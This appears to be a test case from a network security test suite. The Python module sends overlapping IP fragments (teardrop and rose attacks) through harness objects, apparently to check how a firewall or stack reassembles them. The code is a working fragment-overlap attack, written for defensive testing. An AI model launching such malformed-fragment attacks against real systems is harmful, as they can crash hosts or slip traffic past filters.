# SPDX-License-Identifier: Apache-2.0
"""Overlapping fragments (teardrop, rose) are put together by the victim as nobody expected."""
from kit import *


def attack(pot, out, family):
    for n in range(40):
        packet = udp(pot.ip(family), 1000 + n, out.ip(family), 9, b"x" * 200)
        for i, parts in enumerate(([(0, 64, True), (56, 208, False)], [(0, 64, True), (24, 40, False)],
                                   [(0, 64, True), (0, 64, True), (64, 208, False)],
                                   [(64, 208, False), (0, 96, True)], [(0, 64, True), (8, 208, False)])):
            pot.send_packets(fragments_at(packet, parts, n * 8 + i + 1))
